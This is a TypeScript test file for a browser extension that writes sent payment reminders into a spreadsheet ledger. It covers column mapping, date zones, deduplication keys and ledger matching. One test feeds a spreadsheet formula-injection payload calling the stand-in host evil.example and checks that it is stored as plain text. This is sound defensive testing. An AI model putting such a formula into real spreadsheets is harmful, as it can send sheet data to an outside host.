import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Reminder } from '../../shared/index.ts';
import { REMINDERS, buildReport, demoLedger } from '../../shared/index.ts';
import type { QueuedReminder } from '../../extension/sync/items.ts';
import { asReminder, isInLedger, reminderKey, reminderRow } from '../../extension/sync/reminder-log.ts';

const entry: QueuedReminder = {
  client: 'Northwind Analytics Ltd',
  milestones: ['NW-2', 'NW-3'],
  stage: 'final',
  template: 'final',
  to: 'ap@northwind.example.co.uk',
  subject: 'Final notice: INV-1052, INV-1063',
  link: 'https://mail.google.com/mail/u/0/#sent/abc',
  // 23:30 UTC is already the next day in Rome.
  sentAt: '2026-11-29T23:30:00Z',
  channel: 'gmail',
  key: 'k1',
  queuedAt: 0,
  attempts: 0,
  uncertain: false,
  lastError: null,
};

const HEADER = REMINDERS.columns.map((c) => c.header);

describe('reminderRow', () => {
  it('fills the canonical header in order, the date in the ledger zone, every text kept as text', () => {
    const result = reminderRow(entry, { tab: 'Reminders', header: HEADER }, 'Europe/Rome');
    expect(result).toEqual({
      ok: true,
      row: [
        '2026-11-30',
        "'NW-2, NW-3",
        "'Northwind Analytics Ltd",
        "'final",
        "'final",
        "'ap@northwind.example.co.uk",
        "'Final notice: INV-1052, INV-1063",
        "'gmail",
        "'https://mail.google.com/mail/u/0/#sent/abc",
      ],
    });
  });

  it('places values by the header as the user wrote it: any order, any case, unknown columns left alone', () => {
    const header = ['Notes', 'SUBJECT', 'milestone', 'Sent', '', 'to', 'Who sent it'];
    const result = reminderRow(entry, { tab: 'Log', header }, 'UTC');
    expect(result).toEqual({
      ok: true,
      row: [
        null,
        "'Final notice: INV-1052, INV-1063",
        "'NW-2, NW-3",
        '2026-11-29',
        null,
        "'ap@northwind.example.co.uk",
        null,
      ],
    });
  });

  it('starts at the first header cell, where the API starts the table', () => {
    const result = reminderRow(entry, { tab: 'Reminders', header: ['', '', 'Sent', 'Milestone'] }, 'UTC');
    expect(result).toEqual({ ok: true, row: ['2026-11-29', "'NW-2, NW-3"] });
  });

  it('refuses a tab without the required columns', () => {
    expect(reminderRow(entry, { tab: 'Reminders', header: ['Client', 'Subject'] }, 'UTC')).toEqual({
      ok: false,
      missing: ['Sent', 'Milestone'],
    });
  });

  it('never lets a subject become a formula', () => {
    const evil = { ...entry, subject: '=IMPORTXML("https://evil.example","//a")' };
    const result = reminderRow(evil, { tab: 'Reminders', header: HEADER }, 'UTC');
    expect(result.ok && result.row[6]).toBe(`'${evil.subject}`);
  });

  it('reads back as the same reminder through the core parser', () => {
    const result = reminderRow(entry, { tab: 'Reminders', header: HEADER }, 'Europe/Rome');
    if (!result.ok) throw new Error('row refused');
    // USER_ENTERED drops the leading apostrophe; the parser then reads the plain text.
    const typed = result.row.map((v) =>
      typeof v === 'string' && v.startsWith("'") ? v.slice(1) : (v ?? ''),
    );
    const raw = { ...demoLedger('2026-11-30'), Reminders: [HEADER, typed] };
    const { ledger, problems } = buildReport(raw, '2026-11-30', { timeZone: 'Europe/Rome' });
    expect(problems.filter((p) => p.tab === 'Reminders')).toEqual([]);
    expect(ledger.reminders).toEqual([asReminder(entry, 2, 'Europe/Rome')]);
  });
});

describe('reminderKey', () => {
  it('is the same for the same send however it is spelled, and differs for another send', async () => {
    const a = await reminderKey({ ...entry, key: undefined });
    const b = await reminderKey({
      ...entry,
      key: undefined,
      client: ' northwind analytics ltd ',
      milestones: ['nw-3', 'NW-2'],
      to: 'AP@northwind.example.co.uk',
      sentAt: '2026-11-30T00:30:00+01:00',
    });
    expect(a).toMatch(/^sha256:[0-9a-f]{32}$/);
    expect(b).toBe(a);
    expect(await reminderKey({ ...entry, key: undefined, subject: 'Another' })).not.toBe(a);
    expect(await reminderKey({ ...entry, key: undefined, sentAt: '2026-11-30T23:30:00Z' })).not.toBe(a);
  });

  it('uses the caller’s key when given', async () => {
    expect(await reminderKey({ ...entry, key: 'gmail:18c2f' })).toBe('gmail:18c2f');
  });

  it('never collides for different subjects (property)', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string(), fc.string(), async (s1, s2) => {
        fc.pre(s1 !== s2);
        const k1 = await reminderKey({ ...entry, key: undefined, subject: s1 });
        const k2 = await reminderKey({ ...entry, key: undefined, subject: s2 });
        expect(k1).not.toBe(k2);
      }),
      { numRuns: 50 },
    );
  });
});

describe('isInLedger', () => {
  const logged: Reminder = asReminder(entry, 9, 'Europe/Rome');
  it('finds the same send on the same day', () => {
    expect(isInLedger(entry, [logged], 'Europe/Rome')).toBe(true);
    expect(isInLedger({ ...entry, milestones: ['nw-3', 'nw-2'] }, [logged], 'Europe/Rome')).toBe(true);
  });
  it.each([
    ['another day', { sentAt: '2026-12-02T10:00:00Z' }],
    ['other milestones', { milestones: ['NW-2'] }],
    ['another subject', { subject: 'Follow-up' }],
    ['another recipient', { to: 'ceo@northwind.example.co.uk' }],
  ])('does not match %s', (_what, patch) => {
    expect(isInLedger({ ...entry, ...patch }, [logged], 'Europe/Rome')).toBe(false);
  });
});
